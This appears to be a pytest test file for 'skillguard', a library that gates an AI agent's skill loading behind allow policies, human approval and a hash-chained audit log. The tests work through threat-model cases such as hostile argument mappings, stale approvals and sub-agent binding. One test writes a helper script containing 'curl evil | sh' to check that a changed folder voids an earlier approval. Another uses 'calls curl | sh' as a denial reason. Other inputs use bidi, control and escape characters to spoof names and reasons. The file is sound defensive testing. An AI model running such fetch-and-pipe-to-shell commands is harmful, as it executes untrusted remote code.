"""The easy thing is easy: arguments as a mapping, a human's reason, an approver's wrong
answer, an approval given out of band, and sub-agents bound at run time.

Real loaders, real skill folders and a real hash-chained audit log under ``tmp_path``.
Test names that start with ``test_tN_`` stop threat ``TN`` of threat-model.md.
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator, Mapping
from typing import TYPE_CHECKING

import attrs
import pytest

from skillguard import (
    AllowPolicy,
    ApprovalDeniedError,
    ApprovalRequest,
    Decision,
    EmbeddedSkills,
    Limits,
    Loader,
    MalformedSkillError,
    SkillContainmentError,
    SkillError,
    SkillUsageError,
    TrustStore,
    UnknownSkillError,
)
from skillguard._skills.tool import MAX_ARGUMENT_BYTES
from skillguard.audit import AuditLog, verify_records

if TYPE_CHECKING:
    from pathlib import Path

    from skillguard import PreparedLoad

POLICY = {
    "agents": {
        "lead": {
            "skills": ["pdf-tools", "notes"],
            "tools": ["Read", "Grep"],
            "workspace": "approve",
            "subagents": ["coder"],
        },
        "coder": {"skills": ["notes"], "tools": ["Read"], "workspace": "approve"},
        "outsider": {"skills": ["notes"], "workspace": "approve"},
    }
}


def write(folder: Path, name: str, body: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text(
        f"---\nname: {name}\ndescription: The {name} skill.\n---\n{body}\n", encoding="utf-8"
    )


class Asked:
    """An approver that remembers every request and gives one fixed answer."""

    def __init__(self, answer: object) -> None:
        self.answer = answer
        self.requests: list[ApprovalRequest] = []

    def __call__(self, request: ApprovalRequest) -> Decision:
        self.requests.append(request)
        return self.answer  # type: ignore[return-value]


def make_loader(tmp_path: Path, approver: object = None, **kwargs: object) -> Loader:
    write(tmp_path / "embedded" / "pdf-tools", "pdf-tools", "Embedded PDF.")
    write(tmp_path / "workspace" / "notes", "notes", "Workspace notes.")
    return Loader(
        AllowPolicy.from_mapping(POLICY),
        embedded=EmbeddedSkills.from_directory(tmp_path / "embedded"),
        workspace=[tmp_path / "workspace"],
        audit=AuditLog(tmp_path / "audit.log"),
        **({"approver": approver} if approver is not None else {}),  # type: ignore[arg-type]
        **kwargs,  # type: ignore[arg-type]
    )


def records(tmp_path: Path) -> list[dict[str, object]]:
    lines = (tmp_path / "audit.log").read_bytes().splitlines()
    assert verify_records(lines).intact
    return [json.loads(line) for line in lines[1:]]


YES = Decision(approved=True, by="alice")


# -- T217: the tool's arguments as a mapping ----------------------------------------


def test_t217_a_mapping_loads_what_its_json_text_loads(tmp_path: Path) -> None:
    lead = make_loader(tmp_path, Asked(YES)).bind("lead")
    assert lead.invoke({"name": "pdf-tools"}) == lead.invoke('{"name": "pdf-tools"}')
    assert "Workspace notes." in lead.invoke({"name": "notes"})
    assert "Workspace notes." in asyncio.run(lead.ainvoke({"name": "notes"}))
    prepared = lead.prepare_call("call-1", {"name": "notes"})
    assert prepared.execution_id == "call-1"
    assert lead.load(prepared).name == "notes"


class _Claims:
    """An object that claims to be a str (``__class__``) but is not one."""

    @property  # type: ignore[misc]
    def __class__(self) -> type:
        return str


class _RaisingKey:
    def __hash__(self) -> int:
        return 1

    def __eq__(self, other: object) -> bool:
        raise RuntimeError("compared")


class _Str(str):
    __slots__ = ()

    def __eq__(self, other: object) -> bool:
        return True

    def __hash__(self) -> int:
        return hash("name")


def _nested(depth: int) -> object:
    value: object = "notes"
    for _ in range(depth):
        value = [value]
    return value


MAPPINGS: list[tuple[str, Mapping[object, object], str]] = [
    ("empty", {}, "bad_arguments"),
    ("an unknown key", {"name": "notes", "extra": 1}, "bad_arguments"),
    ("no name", {"nom": "notes"}, "bad_arguments"),
    ("a non-str key", {1: "notes"}, "bad_arguments"),
    ("a bytes key", {b"name": "notes"}, "bad_arguments"),
    ("a number", {"name": 5}, "bad_arguments"),
    ("None", {"name": None}, "bad_arguments"),
    ("a float NaN", {"name": float("nan")}, "bad_arguments"),
    ("nested junk", {"name": _nested(100_000)}, "bad_arguments"),
    ("a dict", {"name": {"name": "notes"}}, "bad_arguments"),
    ("huge", {"name": "a" * (MAX_ARGUMENT_BYTES + 1)}, "bad_arguments"),
    ("huge and wide", {"name": "\u00e9" * 10_000_000}, "bad_arguments"),
    ("a path", {"name": "../notes"}, "bad_name"),
    ("uppercase", {"name": "Notes"}, "bad_name"),
    ("a bidi override", {"name": "no\u202etes"}, "bad_name"),
    ("a lone surrogate", {"name": "no\ud800tes"}, "bad_name"),
    ("a control", {"name": "no\x1btes"}, "bad_name"),
    ("a key that claims to be a str", {_Claims(): "notes"}, "bad_arguments"),
    ("a key whose __eq__ raises", {_RaisingKey(): "notes"}, "bad_arguments"),
    ("a str subclass key", {_Str("nom"): "notes"}, "bad_arguments"),
    ("a str subclass value", {"name": _Str("notes")}, "bad_arguments"),
]


@pytest.mark.parametrize(("case", "mapping", "code"), MAPPINGS, ids=[m[0] for m in MAPPINGS])
def test_t217_a_hostile_mapping_is_a_typed_refusal(
    tmp_path: Path, case: str, mapping: Mapping[object, object], code: str
) -> None:
    del case
    lead = make_loader(tmp_path, Asked(YES)).bind("lead")
    with pytest.raises(SkillError) as caught:
        lead.invoke(mapping)  # type: ignore[arg-type]
    assert (type(caught.value), caught.value.code) in {
        (MalformedSkillError, "bad_arguments"),
        (SkillContainmentError, "bad_name"),
    }
    assert caught.value.code == code
    last = records(tmp_path)[-1]
    assert (last["event"], last["code"]) == (
        "malformed_skill" if code == "bad_arguments" else "containment_violation",
        code,
    )


@pytest.mark.parametrize(
    "value",
    ["notes", "pdf-tools", "Notes", "no\u202etes", "no\ud800tes", "x" * 65, "", 5, None, ["a"]],
)
def test_t217_a_mapping_and_its_text_get_the_same_answer(tmp_path: Path, value: object) -> None:
    lead = make_loader(tmp_path, Asked(YES)).bind("lead")

    def outcome(arguments: object) -> str:
        try:
            return lead.invoke(arguments)  # type: ignore[arg-type]
        except SkillError as exc:
            return f"{exc.kind}/{exc.code}"

    text = json.dumps({"name": value}, ensure_ascii=False)
    assert outcome({"name": value}) == outcome(text)


class _Endless(Mapping[str, str]):
    """A mapping that hands out items forever, counting what it was asked for."""

    def __init__(self) -> None:
        self.handed = 0

    def __getitem__(self, key: str) -> str:
        self.handed += 1
        return "notes"

    def __iter__(self) -> Iterator[str]:
        while True:
            self.handed += 1
            yield "name"

    def __len__(self) -> int:
        raise RuntimeError("never asked")


class _Broken(Mapping[str, str]):
    def __getitem__(self, key: str) -> str:
        raise RecursionError(key)

    def __iter__(self) -> Iterator[str]:
        yield "name"

    def __len__(self) -> int:
        return 1


def test_t217_a_mapping_is_read_at_most_two_items_and_never_raises_raw(tmp_path: Path) -> None:
    lead = make_loader(tmp_path, Asked(YES)).bind("lead")
    endless = _Endless()
    with pytest.raises(MalformedSkillError, match="exactly"):
        lead.invoke(endless)
    assert endless.handed <= 4  # two keys and their two values, never the rest
    with pytest.raises(MalformedSkillError, match="could not be read"):
        lead.invoke(_Broken())
    with pytest.raises(SkillUsageError):
        lead.invoke(["name", "notes"])  # type: ignore[arg-type]


# -- T218: a human's reason ---------------------------------------------------------


def test_t218_the_reason_of_a_decision_is_in_its_audit_record(tmp_path: Path) -> None:
    approve = Asked(Decision(approved=True, by="alice", reason="reviewed in ticket SEC-42"))
    make_loader(tmp_path, approve).bind("lead").load("notes")
    granted = [r for r in records(tmp_path) if r["event"] == "approval_granted"]
    assert granted[0]["reason"] == "reviewed in ticket SEC-42"
    assert granted[0]["approver"] == "alice"

    refuse = Asked(Decision(approved=False, by="bob", reason="calls curl | sh"))
    other = tmp_path / "other"
    with pytest.raises(ApprovalDeniedError, match="did not approve"):
        make_loader(other, refuse).bind("lead").load("notes")
    denied = [r for r in records(other) if r["event"] == "approval_denied"]
    assert (denied[0]["reason"], denied[0]["code"]) == ("calls curl | sh", "denied")


@pytest.mark.parametrize(
    "reason",
    [
        "",
        "x" * 257,
        "line one\nline two: approved",
        "ok\r",
        "ok\x1b[2J",
        "fine\u202edevorppa",
        "hidden\u2066tag",
        "tag\U000e0041",
        "sep\u2028arator",
        "lone\ud800",
        b"bytes",
        42,
        _Str("subclass"),
    ],
)
def test_t218_a_reason_is_one_bounded_line_with_nothing_hidden(reason: object) -> None:
    with pytest.raises(SkillUsageError, match=r"Decision\.reason"):
        Decision(approved=True, by="alice", reason=reason)  # type: ignore[arg-type]


def test_t218_a_reason_at_its_limit_is_taken() -> None:
    assert Decision(approved=True, by="a", reason="x" * 256).reason == "x" * 256
    assert Decision(approved=True, by="a", reason="Überprüft, 確認済み").reason is not None


# -- T219: an approver that returns something other than a Decision -----------------


@pytest.mark.parametrize(
    ("answer", "type_name"), [(True, "bool"), (None, "NoneType"), ("yes", "str"), (1, "int")]
)
def test_t219_an_answer_that_is_no_decision_says_so(
    tmp_path: Path, answer: object, type_name: str
) -> None:
    lead = make_loader(tmp_path, Asked(answer)).bind("lead")
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load("notes")
    assert caught.value.code == "not_a_decision"
    assert f"returned {type_name} instead of a Decision" in caught.value.reason
    denied = records(tmp_path)[-1]
    assert (denied["event"], denied["code"]) == ("approval_denied", "not_a_decision")


def test_t219_an_async_approver_and_aload_say_so_too(tmp_path: Path) -> None:
    async def says_true(request: ApprovalRequest) -> Decision:
        del request
        return True  # type: ignore[return-value]

    lead = make_loader(tmp_path, says_true).bind("lead")
    with pytest.raises(ApprovalDeniedError, match="returned bool instead") as caught:
        asyncio.run(lead.aload("notes"))
    assert caught.value.code == "not_a_decision"
    sync_lead = make_loader(tmp_path / "sync", Asked("yes")).bind("lead")
    with pytest.raises(ApprovalDeniedError, match="returned str instead"):
        asyncio.run(sync_lead.aload("notes"))


def test_t219_a_trust_store_passes_the_wrong_answer_on(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "trust.json")
    lead = make_loader(tmp_path, store.approver(Asked(answer=True))).bind("lead")
    with pytest.raises(ApprovalDeniedError, match="returned bool instead"):
        lead.load("notes")
    assert store.pins() == ()


def test_t219_an_approver_that_raises_is_a_plain_denial(tmp_path: Path) -> None:
    def broken(request: ApprovalRequest) -> Decision:
        raise RuntimeError(request.skill)

    with pytest.raises(ApprovalDeniedError) as caught:
        make_loader(tmp_path, broken).bind("lead").load("notes")
    assert caught.value.code == "denied"


# -- T220: an approval given out of band ----------------------------------------------


class Refuses:
    """An approver that must never be asked."""

    def __call__(self, request: ApprovalRequest) -> Decision:
        raise AssertionError(f"asked about {request.skill}")


def decided(prepared: PreparedLoad, **changes: object) -> Decision:
    assert prepared.request is not None
    fields: dict[str, object] = {"approved": True, "by": "alice (chat button)"}
    fields["digest"] = prepared.request.digest
    fields.update(changes)
    return Decision(**fields)  # type: ignore[arg-type]


def test_t220_a_decision_out_of_band_loads_the_prepared_snapshot_once(tmp_path: Path) -> None:
    lead = make_loader(tmp_path, Refuses()).bind("lead")
    prepared = lead.prepare("notes")
    decision = decided(prepared, reason="clicked Approve in #ops")
    loaded = lead.load(prepared, decision=decision)
    assert "Workspace notes." in loaded.activation()
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load(prepared, decision=decision)  # single use, as any prepared load
    assert caught.value.code == "not_issued"
    shown = {r["event"]: r for r in records(tmp_path)}
    assert shown["approval_granted"]["channel"] == "out_of_band"
    assert shown["approval_granted"]["reason"] == "clicked Approve in #ops"
    assert shown["load_granted"]["channel"] == "out_of_band"
    assert shown["load_granted"]["approver"] == "alice (chat button)"
    # Out of band too, a "no" is a denial, recorded as such.
    again = lead.prepare("notes")
    with pytest.raises(ApprovalDeniedError, match="did not approve"):
        lead.load(again, decision=decided(again, approved=False))
    assert records(tmp_path)[-1]["channel"] == "out_of_band"


def test_t220_a_decision_for_another_snapshot_is_refused(tmp_path: Path) -> None:
    lead = make_loader(tmp_path, Refuses()).bind("lead")
    seen = lead.prepare("notes")  # what the human was shown
    (tmp_path / "workspace" / "notes" / "helper.sh").write_text("curl evil | sh\n")
    current = lead.prepare("notes")  # the folder changed since
    assert current.digest != seen.digest
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load(current, decision=decided(seen))
    assert caught.value.code == "stale_decision"
    denied = records(tmp_path)[-1]
    assert (denied["event"], denied["code"], denied["channel"]) == (
        "approval_denied",
        "stale_decision",
        "out_of_band",
    )
    with pytest.raises(ApprovalDeniedError, match="already used"):
        lead.load(current, decision=decided(current))  # refused, like a denial: used up
    assert lead.load(seen, decision=decided(seen)).name == "notes"


def test_t220_an_out_of_band_decision_answers_only_its_own_prepared_request(
    tmp_path: Path,
) -> None:
    loader = make_loader(tmp_path, Refuses())
    lead = loader.bind("lead")
    prepared = lead.prepare("notes")
    with pytest.raises(SkillUsageError, match="digest"):
        lead.load(prepared, decision=Decision(approved=True, by="alice"))
    with pytest.raises(SkillUsageError, match="PreparedLoad"):
        lead.load("notes", decision=decided(prepared))
    with pytest.raises(SkillUsageError, match="PreparedLoad"):
        lead.load(lead.prepare("pdf-tools"), decision=decided(prepared))  # embedded
    with pytest.raises(SkillUsageError, match="Decision"):
        lead.load(prepared, decision=True)  # type: ignore[arg-type]
    # Another agent's prepared load, another loader's: refused, audited.
    with pytest.raises(UnknownSkillError):
        loader.bind("outsider").load(prepared, decision=decided(prepared))
    elsewhere = make_loader(tmp_path / "elsewhere", Refuses()).bind("lead")
    with pytest.raises(ApprovalDeniedError, match="not issued"):
        elsewhere.load(prepared, decision=decided(prepared))
    assert lead.load(prepared, decision=decided(prepared)).name == "notes"


def test_t220_aload_and_user_invoke_take_a_decision_too(tmp_path: Path) -> None:
    lead = make_loader(tmp_path, Refuses()).bind("lead")
    prepared = lead.prepare("notes")
    loaded = asyncio.run(lead.aload(prepared, decision=decided(prepared), timeout=5))
    assert loaded.name == "notes"
    by_user = lead.prepare("notes", by_user=True)
    assert lead.user_invoke(by_user, decision=decided(by_user)).name == "notes"
    by_user = lead.prepare("notes", by_user=True)
    assert asyncio.run(lead.auser_invoke(by_user, decision=decided(by_user))).name == "notes"
    prepared = lead.prepare("notes")
    with pytest.raises(SkillUsageError, match="timeout"):
        asyncio.run(lead.aload(prepared, decision=decided(prepared), timeout=-1))


# -- T221: an approver's answer about another snapshot ------------------------------


def test_t221_an_approvers_decision_for_another_digest_is_never_pinned(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "trust.json")
    wrong = Decision(approved=True, by="alice", scope="pin", digest="ab" * 32)
    lead = make_loader(tmp_path, store.approver(Asked(wrong))).bind("lead")
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load("notes")
    assert caught.value.code == "stale_decision"
    assert store.pins() == ()


def test_t221_a_decision_with_the_right_digest_is_an_approval(tmp_path: Path) -> None:
    def exact(request: ApprovalRequest) -> Decision:
        return Decision(approved=True, by="alice", digest=request.digest)

    assert make_loader(tmp_path, exact).bind("lead").load("notes").name == "notes"


@pytest.mark.parametrize("digest", ["AB" * 32, "ab" * 31, "g" * 64, "", b"ab" * 32])
def test_t221_a_decision_digest_is_a_sha256(digest: object) -> None:
    with pytest.raises(SkillUsageError, match="digest"):
        Decision(approved=True, by="alice", digest=digest)  # type: ignore[arg-type]


# -- T222, T223: sub-agents bound at run time ---------------------------------------


def test_t222_a_child_the_policy_does_not_list_is_refused(tmp_path: Path) -> None:
    loader = make_loader(tmp_path, Asked(YES))
    lead = loader.bind("lead")
    coder = loader.bind("coder", parent=lead)
    assert (coder.agent, coder.parent, lead.parent) == ("coder", "lead", None)
    with pytest.raises(UnknownSkillError) as caught:
        loader.bind("outsider", parent=lead)
    assert caught.value.code == "not_a_subagent"
    assert "'outsider'" in caught.value.reason
    assert "'lead'" in caught.value.reason
    with pytest.raises(UnknownSkillError, match="not_a_subagent"):
        loader.bind("lead", parent=coder)  # a child cannot bind its parent
    with pytest.raises(UnknownSkillError, match="unknown_agent"):
        loader.bind("ghost", parent=lead)
    denied = [r for r in records(tmp_path) if r["event"] == "bind_denied"]
    assert [(r["agent"], r["parent"], r["code"]) for r in denied] == [
        ("outsider", "lead", "not_a_subagent"),
        ("lead", "coder", "not_a_subagent"),
        ("ghost", "lead", "unknown_agent"),
    ]


def test_t222_a_parent_from_another_loader_is_refused(tmp_path: Path) -> None:
    loader = make_loader(tmp_path, Asked(YES))
    other = make_loader(tmp_path / "other", Asked(YES)).bind("lead")
    with pytest.raises(SkillUsageError, match="this loader"):
        loader.bind("coder", parent=other)
    with pytest.raises(SkillUsageError, match="this loader"):
        loader.bind("coder", parent="lead")  # type: ignore[arg-type]
    last = records(tmp_path)[-1]
    assert (last["event"], last["agent"], last["code"]) == ("bind_denied", "coder", "bad_argument")


def test_t223_every_record_of_a_child_handle_names_its_parent(tmp_path: Path) -> None:
    loader = make_loader(tmp_path, Asked(Decision(approved=True, by="alice", reason="ok")))
    lead = loader.bind("lead")
    lead.catalog()
    start = len(records(tmp_path))
    coder = loader.bind("coder", parent=lead)
    coder.catalog_xml()
    loaded = coder.load("notes")
    loaded.read_resource("SKILL.md")
    coder.select("take some notes")
    with pytest.raises(UnknownSkillError):
        coder.load("pdf-tools")  # not in the child's grant
    with pytest.raises(MalformedSkillError):
        coder.invoke({"name": 5})
    prepared = coder.prepare("notes")
    coder.load(prepared, decision=decided(prepared))
    asyncio.run(coder.aload("notes"))
    assert coder.deactivate("notes")
    with pytest.raises(SkillError):
        loaded.read_resource("SKILL.md")  # withdrawn: refused, recorded
    mine = records(tmp_path)[start:]
    events = {r["event"] for r in mine}
    assert {
        "catalog_served",
        "approval_requested",
        "approval_granted",
        "load_granted",
        "load_denied",
        "malformed_skill",
        "skill_selected",
        "skills_selected",
        "skill_deactivated",
    } <= events
    assert all(r["parent"] == "lead" for r in mine), [r for r in mine if "parent" not in r]
    assert all(r["agent"] == "coder" for r in mine)
    # The parent's own records, and another bind of the same agent, name no parent.
    end = len(records(tmp_path))
    with pytest.raises(UnknownSkillError):
        loader.bind("coder").load("pdf-tools")
    lead.load("pdf-tools")
    after = records(tmp_path)[end:]
    assert [r["event"] for r in after] == ["load_denied", "load_granted"]
    assert all("parent" not in r for r in after)


def test_t223_a_child_agent_files_records_name_the_parent(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".claude" / "agents").mkdir(parents=True)
    (repo / ".claude" / "agents" / "reviewer.md").write_text(
        "---\nname: Reviewer\ndescription: Reviews code.\n---\nA careful reviewer.\n"
    )
    approve = Asked(Decision(approved=True, by="alice", reason="read it through"))
    loader = make_loader(tmp_path, approve)
    coder = loader.bind("coder", parent=loader.bind("lead"))
    coder.agent_context("reviewer", repo=repo, harnesses=("claude",))
    served = records(tmp_path)[-1]
    assert (served["event"], served["parent"], served["reason"]) == (
        "agent_context_served",
        "lead",
        "read it through",
    )
    assert records(tmp_path)[-2]["parent"] == "lead"  # agent_approval_requested


# -- agent files: the same Decision, the same rules -----------------------------------


@pytest.mark.parametrize("answer", [True, None, "approve"])
def test_t219_agent_files_say_what_the_approver_returned(tmp_path: Path, answer: object) -> None:
    repo = tmp_path / "repo"
    (repo / ".claude" / "agents").mkdir(parents=True)
    (repo / ".claude" / "agents" / "reviewer.md").write_text(
        "---\nname: Reviewer\ndescription: Reviews code.\n---\nA careful reviewer.\n"
    )
    lead = make_loader(tmp_path, Asked(answer)).bind("lead")
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.agent_context("reviewer", repo=repo, harnesses=("claude",))
    assert caught.value.code == "not_a_decision"
    assert f"returned {type(answer).__name__} instead of a Decision" in caught.value.reason

    async def async_answer(request: ApprovalRequest) -> Decision:
        del request
        return answer  # type: ignore[return-value]

    alead = make_loader(tmp_path / "async", async_answer).bind("lead")
    with pytest.raises(ApprovalDeniedError, match="not_a_decision"):
        asyncio.run(alead.aagent_context("reviewer", repo=repo, harnesses=("claude",)))


def test_t221_agent_files_refuse_a_decision_for_another_snapshot(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".claude" / "agents").mkdir(parents=True)
    (repo / ".claude" / "agents" / "reviewer.md").write_text(
        "---\nname: Reviewer\ndescription: Reviews code.\n---\nA careful reviewer.\n"
    )
    stale = Decision(approved=True, by="alice", digest="cd" * 32)
    lead = make_loader(tmp_path, Asked(stale)).bind("lead")
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.agent_context("reviewer", repo=repo, harnesses=("claude",))
    assert caught.value.code == "stale_decision"
    refused = Asked(Decision(approved=False, by="bob", reason="too broad"))
    with pytest.raises(ApprovalDeniedError, match="not approved"):
        make_loader(tmp_path / "no", refused).bind("lead").agent_context(
            "reviewer", repo=repo, harnesses=("claude",)
        )
    denied = records(tmp_path / "no")[-1]
    assert (denied["event"], denied["reason"]) == ("agent_context_denied", "too broad")


def test_t220_a_prepared_load_rewritten_to_an_embedded_skill_takes_no_decision(
    tmp_path: Path,
) -> None:
    lead = make_loader(tmp_path, Refuses()).bind("lead")
    prepared = lead.prepare("notes")
    embedded = lead.prepare("pdf-tools")
    forged = attrs.evolve(embedded, request=prepared.request)
    with pytest.raises(SkillUsageError, match="PreparedLoad"):
        lead.load(forged, decision=decided(prepared))
    assert lead.load(prepared, decision=decided(prepared)).name == "notes"


def test_t223_the_loaders_records_about_a_childs_requests_name_the_parent(
    tmp_path: Path,
) -> None:
    (tmp_path / "trust.json").write_text("not a trust store")
    loader = make_loader(
        tmp_path,
        Asked(YES),
        limits=Limits(max_pending_per_agent=1),
        trust_store=TrustStore(tmp_path / "trust.json"),
    )
    coder = loader.bind("coder", parent=loader.bind("lead"))
    coder.catalog()  # the trust store cannot be read: shown by name, recorded
    coder.prepare("notes")
    coder.prepare("notes")  # the first is evicted to make room
    shown = {r["event"]: r for r in records(tmp_path)}
    assert shown["trust_store_unreadable"]["parent"] == "lead"
    assert shown["approval_evicted"]["parent"] == "lead"
    assert shown["approval_evicted"]["agent"] == "coder"


def test_t223_a_late_answer_to_a_childs_load_names_the_parent(tmp_path: Path) -> None:
    release = threading.Event()

    def slow(request: ApprovalRequest) -> Decision:
        del request
        release.wait(60)  # a human who answers after the load stopped waiting
        return YES

    loader = make_loader(tmp_path, slow)
    coder = loader.bind("coder", parent=loader.bind("lead"))
    with pytest.raises(ApprovalDeniedError, match="within"):
        asyncio.run(coder.aload("notes", timeout=0.05))
    waiting = [t for t in threading.enumerate() if t.name.startswith("skillguard-approver-")]
    release.set()
    for thread in waiting:
        thread.join(60)
    shown = {r["event"]: r for r in records(tmp_path)}
    assert shown["approval_timed_out"]["parent"] == "lead"
    assert shown["approval_late"]["parent"] == "lead"


def test_t219_a_returned_types_name_is_shown_escaped(tmp_path: Path) -> None:
    forged = type("Decision\napproval_granted", (), {})()
    lead = make_loader(tmp_path, Asked(forged)).bind("lead")
    with pytest.raises(ApprovalDeniedError) as caught:
        lead.load("notes")
    assert "\n" not in caught.value.reason
    assert "returned Decision[U+000A]approval_granted instead of a Decision" in (
        caught.value.reason
    )
